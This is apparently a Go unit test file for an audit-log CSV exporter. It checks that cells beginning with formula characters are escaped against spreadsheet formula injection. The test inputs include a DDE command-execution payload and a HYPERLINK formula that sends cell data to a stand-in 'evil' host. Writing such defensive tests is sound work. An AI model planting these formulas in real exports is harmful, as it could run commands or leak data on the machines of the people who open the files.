package audit_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"postern/internal/actor"
	"postern/internal/audit"
)

func TestEscapeCell(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"ordinary text", "auth.login", "auth.login"},
		{"ip address", "192.0.2.1", "192.0.2.1"},
		{"number", "42", "42"},
		{"email", "alice@example.com", "alice@example.com"},
		{"equals", "=1+1", "'=1+1"},
		{"dde payload", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"hyperlink", `=HYPERLINK("http://evil/?x="&A1,"click")`, `'=HYPERLINK("http://evil/?x="&A1,"click")`},
		{"plus", "+1", "'+1"},
		{"minus", "-1+1", "'-1+1"},
		// A negative number is escaped too: a cell cannot be told apart from
		// "-2+3+cmd|..." by its first character, and OWASP accepts showing
		// '-5 as text in exchange. The audit log holds no numbers a reader
		// needs to sum.
		{"negative number", "-5", "'-5"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\tx", "'\tx"},
		{"carriage return", "\rx", "'\rx"},
		{"tab then formula", "\t=1", "'\t=1"},
		{"leading spaces before equals", "   =1+1", "'   =1+1"},
		{"leading newline before plus", "\n+1", "'\n+1"},
		{"only spaces", "   ", "   "},
		{"formula char later", "a=b", "a=b"},
		{"already quoted", "'=1", "'=1"},
		{"unicode", "Ünïcødé ж 🔐", "Ünïcødé ж 🔐"},
		{"unicode after equals", "=ж", "'=ж"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := audit.EscapeCell(tc.in); got != tc.want {
				t.Errorf("EscapeCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	at := time.Date(2025, 6, 1, 7, 8, 9, 500, time.FixedZone("CEST", 2*3600))
	entries := []audit.Entry{
		{ID: 2, At: at, Actor: "alice@example.com", ActorRole: actor.Auditor, SourceIP: "192.0.2.1", Action: audit.Login, Target: "alice@example.com", Outcome: audit.Success, Detail: ""},
		{ID: 1, At: at.Add(-time.Hour), Actor: "=cmd|' /C calc'!A0", SourceIP: "+1", Action: "-2+3", Target: "@x",
			Outcome: audit.Failure, Detail: "a, \"quoted\" value\nsecond line, ünïcødé"},
	}
	var buf bytes.Buffer
	if err := audit.WriteCSV(&buf, entries); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, buf.String())
	}
	want := [][]string{
		audit.CSVHeader,
		{"2", "2025-06-01T05:08:09Z", "alice@example.com", "auditor", "192.0.2.1", "auth.login", "alice@example.com", "success", ""},
		{"1", "2025-06-01T04:08:09Z", "'=cmd|' /C calc'!A0", "", "'+1", "'-2+3", "'@x", "failure", "a, \"quoted\" value\nsecond line, ünïcødé"},
	}
	if len(rows) != len(want) {
		t.Fatalf("rows = %d, want %d:\n%s", len(rows), len(want), buf.String())
	}
	for i := range want {
		if strings.Join(rows[i], "\x00") != strings.Join(want[i], "\x00") {
			t.Errorf("row %d = %q, want %q", i, rows[i], want[i])
		}
	}
	if h := strings.Join(rows[0], ","); h != "id,time_utc,actor,actor_role,source_ip,action,target,outcome,details" {
		t.Errorf("header = %s", h)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %d = %q starts with a formula character", i+1, j, cell)
			}
		}
	}
}

func TestWriteCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := audit.WriteCSV(&buf, nil); err != nil {
		t.Fatalf("WriteCSV(nil): %v", err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 1 || len(rows[0]) != len(audit.CSVHeader) {
		t.Errorf("WriteCSV(nil) = %q, %v; want only the header row", rows, err)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteCSVReportsWriteError(t *testing.T) {
	entries := []audit.Entry{{ID: 1, Actor: "a", Action: "x", Outcome: audit.Success}}
	if err := audit.WriteCSV(failWriter{}, entries); err == nil {
		t.Error("WriteCSV to a failing writer = nil, want the write error")
	}
}
